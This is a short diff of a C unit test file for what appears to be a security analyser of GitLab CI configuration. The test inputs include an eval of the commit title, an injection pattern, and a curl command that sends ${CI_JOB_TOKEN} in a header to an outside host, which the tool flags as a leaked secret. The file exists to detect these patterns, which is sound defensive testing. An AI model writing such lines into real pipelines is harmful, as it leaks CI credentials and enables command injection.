@@ -50,8 +50,8 @@ static void knows_text_that_anybody_writes(void **state)
                  "3:a $CI_COMMIT_TITLE");
     assert_facts("x:\n  script:\n    - eval \"a $CI_COMMIT_TITLES\"\n    - echo $CI_COMMIT_TITLE\n",
                  "$.jobs[*].injections[*]", "");
-    assert_facts("x:\n  script:\n    - curl -H \"T: ${CI_JOB_TOKEN}\" https://a.acme.io/b\n",
-                 "$.jobs[*].sentSecrets[*]", "3:T: ${CI_JOB_TOKEN}");
+    assert_facts("x:\n  script:\n    - curl -H \"T:${CI_JOB_TOKEN}\" https://a.acme.io/b\n",
+                 "$.jobs[*].sentSecrets[*]", "3:T:${CI_JOB_TOKEN}");
 }
 
 static void takes_includes_apart(void **state)
